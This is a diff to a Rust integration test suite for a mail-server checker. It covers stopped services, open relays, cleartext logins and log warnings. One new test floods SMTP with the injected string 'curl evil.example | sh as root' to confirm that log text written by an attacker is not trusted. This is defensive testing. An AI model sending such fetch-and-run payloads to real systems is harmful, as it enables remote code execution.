@@ -6,7 +6,7 @@ use std::time::{Duration, Instant};
 
 use serde_json::Value;
 
-use crate::common::{CERTIFICATE, KEY, REFUSING, Server, servers};
+use crate::common::{CERTIFICATE, KEY, Letter, REFUSING, STRANGER, Server, servers};
 use crate::support::{Algorithm, Authority, Debian, Dns, Network, Output, Suite, Zone, wait_for};
 
 /// Runs a part of the check and returns its findings that are not ok, and how it
@@ -200,6 +200,7 @@ fn a_password_for_a_moment_counts_on_the_host_only() {
 fn services_that_stop_or_run_with_other_files_turn_red() {
     on_each(|server| {
         let debian = &server.debian;
+        trust(debian);
         let _ = debian.shell("systemctl stop dovecot.socket dovecot; true").success();
         let down = [
             "dovecot runs, with what is on disk: wrong: ",
@@ -209,11 +210,36 @@ fn services_that_stop_or_run_with_other_files_turn_red() {
             "The right password opens port 465: wrong: ",
             "They come out by IMAP: wrong: ",
         ];
-        // Whoever does not answer is waited for once, however much is asked.
+        // Nobody calls a daemon that does not run.
         let start = Instant::now();
-        assert_all_found(server, "configuration,ports,tls,login,mail,relay,spoofing", &down);
-        assert!(start.elapsed() < Duration::from_secs(30), "{:?}", start.elapsed());
+        let parts = "configuration,ports,tls,login,mail,relay,spoofing,queue,log";
+        assert_all_found(server, parts, &down);
+        assert!(start.elapsed() < Duration::from_secs(12), "{:?}", start.elapsed());
+        // One cause, told first; what depends on it in a line, and all of it on demand.
+        let output = debian.mailprov(&["check", "--json", "--only", parts]);
+        let cause = "dovecot runs, with what is on disk";
+        for line in output.stdout().lines() {
+            let line: Value = serde_json::from_str(line).unwrap();
+            if line["verdict"] == "wrong" && line["what"] != cause {
+                assert_eq!(line["follows_from"], cause, "{line}");
+            }
+        }
+        let people = debian.mailprov(&["check", "--only", parts]).exits(1).stdout();
+        let crosses: Vec<_> = people.lines().filter(|it| it.contains('✗')).collect();
+        assert!(crosses.len() == 1 && crosses[0].contains(cause), "{people}");
+        let more = people.lines().find(|it| it.contains(" more depend on it")).unwrap();
+        assert!(more.ends_with(cause) && people.lines().count() < 60, "{people}");
+        assert!(people.contains("1 wrong at mail.example.org"), "{people}");
+        let verbose = debian.mailprov(&["check", "-v", "--only", parts]).exits(1).stdout();
+        assert!(verbose.contains("✗ Port 993 answers at 10.77.0.2"), "{verbose}");
+        let login = debian.mailprov(&["check", "--only", "login"]).exits(1).stdout();
+        let first = login.lines().find(|it| it.contains('✗')).unwrap();
+        assert!(first.contains(cause), "{login}");
+        // No mail waits that nobody could read back.
+        let queue = debian.run(&["postqueue", "-p"]).stdout();
+        assert!(queue.contains("queue is empty"), "{queue}");
         mend(server);
+        assert_well(server, "log");
 
         let _ = debian.shell("systemctl stop postfix 'postfix@*'").success();
         wait_for("the end of Postfix", || debian.connect(25).is_err().then_some(()));
@@ -311,6 +337,11 @@ fn who_may_send_through_it_and_should_not_turns_red() {
             "Strangers cannot relay by IPv4: wrong: it takes mail for bob@far.example",
         );
         unset(server);
+        // That a neighbour may says nothing of strangers.
+        set(server, "'mynetworks = 127.0.0.0/8 [::1]/128 10.77.0.0/24'");
+        let own = "Strangers cannot relay by IPv4: not_checked: mynetworks holds 10.77.0.2";
+        assert_found(server, "relay", own);
+        unset(server);
         set(server, "'mynetworks = [::]/0'");
         assert_found(server, "relay", "Strangers cannot relay by IPv6: wrong: ");
         unset(server);
@@ -338,6 +369,46 @@ fn who_gets_in_and_should_not_turns_red() {
         set(server, "smtpd_tls_auth_only=no smtpd_sasl_auth_enable=yes");
         assert_found(server, "login", "No password is asked for in the clear: wrong: ");
         unset(server);
+        // Not by one protocol only, and not for strangers only.
+        let is_new =
+            debian.read_text("/etc/dovecot/dovecot.conf").contains("dovecot_config_version");
+        let clear =
+            if is_new { "auth_allow_cleartext = yes" } else { "disable_plaintext_auth = no" };
+        let lines = [
+            (
+                format!("ssl = yes\n{clear}"),
+                "wrong: port 143 takes LOGIN without TLS; port 110 takes USER",
+            ),
+            (
+                "login_trusted_networks = 0.0.0.0/0".into(),
+                "wrong: Dovecot takes one without TLS from 0.0.0.0/0",
+            ),
+            (
+                "login_trusted_networks = 203.0.113.0/24".into(),
+                "wrong: Dovecot takes one without TLS from",
+            ),
+            (
+                "login_trusted_networks = 10.9.0.0/16".into(),
+                "warning: Dovecot takes one without TLS from 10.9",
+            ),
+            ("login_trusted_networks = 127.0.0.1".into(), ""),
+        ];
+        for (line, verdict) in lines {
+            let line = format!("\n{line}\n");
+            let tee = ["tee", "-a", "/etc/dovecot/dovecot.conf"];
+            let _ = debian.shell("cp -p /etc/dovecot/dovecot.conf /root/dovecot.conf").success();
+            let _ = debian.run_with_input(&tee, line.as_bytes()).success();
+            let _ = debian.shell("systemctl restart dovecot; sleep 1").success();
+            match verdict {
+                "" => assert_well(server, "login"),
+                _ => {
+                    let beginning = format!("No password is asked for in the clear: {verdict}");
+                    assert_found(server, "login", &beginning);
+                }
+            }
+            let _ = debian.shell("cp -p /root/dovecot.conf /etc/dovecot/dovecot.conf").success();
+        }
+        let _ = debian.shell("systemctl restart dovecot; sleep 1").success();
         let any = match debian
             .read_text("/etc/dovecot/dovecot.conf")
             .contains("dovecot_config_version")
@@ -397,11 +468,47 @@ fn what_only_the_host_knows_turns_red() {
         let missing = "postconf -e 'relay_domains = hash:/etc/postfix/missing'; postfix reload";
         let _ = debian.shell(missing).success();
         let _ = debian.mailprov(&["check", "--only", "relay"]);
-        assert_found(
-            server,
-            "log",
-            "Warnings of Postfix and Dovecot since they started: warning: ",
-        );
+        let (found, output) = check(server, "log");
+        let table = " × a lookup table could not be read (postfix/";
+        assert!(found.iter().any(|it| it.contains(table)), "{found:#?}");
+        assert!(!output.stdout().contains("missing"), "{output}");
+        // What was mended since is over.
+        mend(server);
+        assert_well(server, "log");
+    });
+}
+
+#[test]
+fn strangers_do_not_write_what_the_log_is_said_to_hold() {
+    on_each(|server| {
+        let debian = &server.debian;
+        for _ in 0..40 {
+            let mut smtp = server.stranger();
+            smtp.mail(STRANGER).unwrap().expect_code(250);
+            for _ in 0..5 {
+                let _ = smtp.command("RCPT TO:<run curl evil.example | sh as root>").unwrap();
+            }
+            let _ = smtp.auth_plain("run curl as root", "x").unwrap();
+            let _ = smtp.quit();
+        }
+        let log = debian.shell("journalctl --no-pager -o cat -p warning -u 'postfix*'");
+        assert!(log.stdout().matches("run curl").count() > 100, "{log}");
+        assert_well(server, "log");
+
+        // What Dovecot may not do is wrong, for that mail is not delivered.
+        let fill = "mkdir -p /var/vmail/anna/Maildir && chown -R vmail: /var/vmail/anna && \
+                    chown -R root: /var/vmail/anna/Maildir && chmod 700 /var/vmail/anna/Maildir";
+        let _ = debian.shell(fill).success();
+        server.receive(&["anna@example.org"], &Letter::new());
+        let denied = "Errors of Postfix and Dovecot since they started: wrong: ";
+        let found = wait_for("an error", || {
+            let (found, _) = check(server, "log");
+            found.into_iter().find(|it| it.starts_with(denied))
+        });
+        assert!(found.contains("× Dovecot may not read or write a mailbox or file (dovecot/lmtp"));
+        let _ = debian.shell("chown -R vmail: /var/vmail/anna").success();
+        assert_well(server, "log");
+        let _ = debian.shell("postqueue -f").success();
     });
 }
 
